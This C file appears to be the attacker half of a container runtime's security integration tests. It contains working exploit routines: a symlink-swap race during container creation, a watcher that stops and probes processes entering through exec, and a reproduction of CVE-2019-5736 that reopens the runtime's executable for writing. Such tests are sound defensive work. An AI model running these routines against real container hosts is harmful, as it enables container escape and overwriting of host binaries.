/* attacks.c: the attacker's side of tests/integration/security.sh, in C
 * where a shell is too slow to win a race: a RENAME_EXCHANGE loop that
 * swaps a directory for a symlink while urun creates containers, and a
 * watcher inside a container that stops each process `urun exec` brings in
 * before it has become the container's program, and tries to reach into
 * it; a hunter for the runtime's executable (CVE-2019-5736). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "tools.h"

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* swap-loop A B SECONDS [TARGET]: exchange two names (renameat2
 * RENAME_EXCHANGE) as fast as it can, as a container sharing a rootfs
 * would during another's create; with TARGET, whichever of the two is not
 * a symlink to TARGET is made one again first (a runtime that replaces
 * what it finds does not end the attack).  Prints how many it made. */
static int swap_loop(const char *a, const char *b, double seconds, const char *target) {
  double end = now() + seconds;
  long n = 0, failed = 0, planted = 0;
  while (now() < end) {
    for (int i = 0; i < 200; i++) {
      if (target) {
        struct stat sa, sb;
        int la = lstat(a, &sa) == 0 && S_ISLNK(sa.st_mode), lb = lstat(b, &sb) == 0 && S_ISLNK(sb.st_mode);
        if (!la && !lb && (unlink(b) == 0 || errno == ENOENT) && symlink(target, b) == 0) planted++;
      }
      if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0) n++;
      else failed++;
    }
  }
  printf("swap-loop: %ld exchanges, %ld refused, %ld symlinks planted again\n", n, failed, planted);
  return 0;
}

static int read_comm(pid_t pid, char *buf, size_t len) {
  char path[64];
  snprintf(path, sizeof(path), "/proc/%d/comm", (int)pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t n = read(fd, buf, len - 1);
  close(fd);
  if (n <= 0) return -1;
  buf[n] = '\0';
  buf[strcspn(buf, "\n")] = '\0';
  return 0;
}

/* Until PID is really stopped (kill only queues SIGSTOP): its state 'T'. */
static bool wait_stopped(pid_t pid) {
  char path[64], buf[512];
  snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
  for (int i = 0; i < 100000; i++) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return false;
    ssize_t n = read(fd, buf, sizeof(buf) - 1);
    close(fd);
    if (n <= 0) return false;
    buf[n] = '\0';
    const char *paren = strrchr(buf, ')');
    if (paren && paren[1] == ' ' && (paren[2] == 'T' || paren[2] == 't')) return true;
    if (paren && paren[1] == ' ' && (paren[2] == 'Z' || paren[2] == 'X')) return false;
    sched_yield();
  }
  return false;
}

/* What a process of the container can get of process PID: its fds' targets
 * (the runtime's state directory, the caller's files), its executable (the
 * host's urun), its environment and memory, a ptrace attach. */
static void probe(pid_t pid, const char *comm) {
  char path[64], link[4096];
  int fds = 0;
  for (int fd = 0; fd < 256; fd++) {
    snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int)pid, fd);
    ssize_t n = readlink(path, link, sizeof(link) - 1);
    if (n >= 0) fds++;
  }
  snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
  int exe = open(path, O_RDONLY | O_CLOEXEC);
  snprintf(path, sizeof(path), "/proc/%d/environ", (int)pid);
  int env = open(path, O_RDONLY | O_CLOEXEC);
  char c;
  bool env_read = env >= 0 && read(env, &c, 1) >= 0;
  snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
  int mem = open(path, O_RDONLY | O_CLOEXEC);
  long traced = ptrace(PTRACE_SEIZE, pid, NULL, NULL);
  if (traced == 0) ptrace(PTRACE_DETACH, pid, NULL, NULL);
  printf("caught pid %d comm %s: fds %d, exe %s, environ %s, mem %s, ptrace %s\n", (int)pid, comm, fds,
         exe >= 0 ? "OPENED" : "denied", env_read ? "READ" : "denied", mem >= 0 ? "OPENED" : "denied",
         traced == 0 ? "ATTACHED" : "denied");
  if (exe >= 0) close(exe);
  if (env >= 0) close(env);
  if (mem >= 0) close(mem);
}

/* catch-exec PROGRAM SECONDS: as the container's init, stop every other
 * process that shows up while its comm is not yet PROGRAM (the one exec
 * runs), probe it, let it go on. */
static int catch_exec(const char *program, double seconds) {
  char own[64] = "";
  read_comm(getpid(), own, sizeof(own));
  printf("watching\n");
  double end = now() + seconds;
  pid_t seen[4096];
  size_t nseen = 0;
  while (now() < end) {
    DIR *d = opendir("/proc");
    if (!d) return 1;
    struct dirent *de;
    while ((de = readdir(d))) {
      pid_t pid = (pid_t)atoi(de->d_name);
      if (pid <= 0 || pid == getpid()) continue;
      bool known = false;
      for (size_t i = 0; i < nseen && !known; i++) known = seen[i] == pid;
      if (known) continue;
      char comm[64];
      if (read_comm(pid, comm, sizeof(comm)) < 0 || !strcmp(comm, program)) continue;
      if (kill(pid, SIGSTOP) < 0) continue;
      /* stopped: still not the program? then it is the runtime's */
      if (wait_stopped(pid) && read_comm(pid, comm, sizeof(comm)) == 0 && strcmp(comm, program) && strcmp(comm, own))
        probe(pid, comm);
      kill(pid, SIGCONT);
      if (nseen < sizeof(seen) / sizeof(seen[0])) seen[nseen++] = pid;
    }
    closedir(d);
    while (waitpid(-1, NULL, WNOHANG) > 0) {
    }
  }
  return 0;
}

struct held {
  int fd;
  pid_t pid;
  dev_t dev;
  ino_t ino;
  int refused; /* errno of the last reopen for writing */
};

static int is_ours(const struct stat *st, const struct stat *own, int nown) {
  for (int i = 0; i < nown; i++)
    if (own[i].st_dev == st->st_dev && own[i].st_ino == st->st_ino) return 1;
  return 0;
}

static int is_held(const struct stat *st, const struct held *held, int nheld) {
  for (int i = 0; i < nheld; i++)
    if (held[i].dev == st->st_dev && held[i].ino == st->st_ino) return 1;
  return 0;
}

/* Hold an O_PATH fd on each new file that /proc/PID/map_files opens for us
 * (a process's mapped files: its code, where its exe is only a stub). */
static int hold_mapped_files(pid_t pid, struct held *held, int nheld, int room, const struct stat *own, int nown) {
  char dir[64];
  snprintf(dir, sizeof(dir), "/proc/%d/map_files", pid);
  DIR *d = opendir(dir);
  if (!d) return nheld;
  struct dirent *de;
  while ((de = readdir(d)) && nheld < room) {
    if (de->d_name[0] == '.') continue;
    int fd = openat(dirfd(d), de->d_name, O_PATH | O_CLOEXEC);
    struct stat st;
    if (fd < 0) continue;
    if (fstat(fd, &st) < 0 || is_ours(&st, own, nown) || is_held(&st, held, nheld)) {
      close(fd);
      continue;
    }
    held[nheld++] = (struct held){.fd = fd, .pid = pid, .dev = st.st_dev, .ino = st.st_ino};
    printf("held %d (mapped %s)\n", pid, de->d_name);
  }
  closedir(d);
  return nheld;
}

/* exe-hunt FIFO SECONDS: CVE-2019-5736.  Take an O_PATH fd on the
 * executable of every other process that shows up (not one of the
 * container's own files), open FIFO for reading once something is held
 * (a runtime process of the test blocks on writing it until then), and
 * once the process is gone reopen the fd for writing and append a marker.
 * Prints "held PID", "wrote PID", "refused PID: ERR", then a summary. */
static int exe_hunt(const char *fifo, double seconds) {
  struct stat own[3];
  int nown = 0;
  const char *mine[] = {"/proc/self/exe", "/bin/busybox", "/testprog"};
  for (size_t i = 0; i < 3; i++)
    if (stat(mine[i], &own[nown]) == 0) nown++;
  struct held held[64];
  int nheld = 0, wrote = 0, fifo_fd = -1;
  double end = now() + seconds;
  while (now() < end && !wrote) {
    DIR *d = opendir("/proc");
    if (!d) {
      perror("exe-hunt: /proc");
      return 2;
    }
    struct dirent *de;
    while ((de = readdir(d)) && nheld < 64) {
      pid_t pid = atoi(de->d_name);
      if (pid <= 0 || pid == getpid()) continue;
      char path[64];
      snprintf(path, sizeof(path), "/proc/%d/exe", pid);
      int fd = open(path, O_PATH | O_CLOEXEC);
      struct stat st;
      int mine = fd >= 0 && fstat(fd, &st) == 0 && is_ours(&st, own, nown);
      if (fd >= 0 && !mine && !is_held(&st, held, nheld)) {
        held[nheld++] = (struct held){.fd = fd, .pid = pid, .dev = st.st_dev, .ino = st.st_ino};
        printf("held %d\n", pid);
      } else if (fd >= 0) {
        close(fd);
      }
      /* not the container's own program: what the process maps too */
      if (!mine) nheld = hold_mapped_files(pid, held, nheld, 64, own, nown);
    }
    closedir(d);
    if (nheld && fifo_fd < 0) fifo_fd = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fifo_fd >= 0) {
      char buf[4096];
      while (read(fifo_fd, buf, sizeof(buf)) > 0) {
      }
    }
    for (int i = 0; i < nheld; i++) {
      char path[64];
      snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
      int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
      if (w >= 0) {
        if (write(w, "\nPWNED by the container\n", 24) == 24) {
          printf("wrote %d\n", held[i].pid);
          wrote++;
        } else if (held[i].refused != errno) {
          held[i].refused = errno;
          printf("refused %d: write: %s\n", held[i].pid, strerror(errno));
        }
        close(w);
      } else if (errno != ETXTBSY && held[i].refused != errno) {
        held[i].refused = errno;
        printf("refused %d: %s\n", held[i].pid, strerror(errno));
      }
    }
    usleep(200);
  }
  printf("exe-hunt: held %d, wrote %d\n", nheld, wrote);
  return 0;
}

int attack_main(const char *mode, int argc, char **argv) {
  if (!strcmp(mode, "swap-loop") && argc > 4) return swap_loop(argv[2], argv[3], atof(argv[4]), argc > 5 ? argv[5] : NULL);
  if (!strcmp(mode, "exe-hunt") && argc > 3) return exe_hunt(argv[2], atof(argv[3]));
  if (!strcmp(mode, "catch-exec") && argc > 3) return catch_exec(argv[2], atof(argv[3]));
  return -1;
}
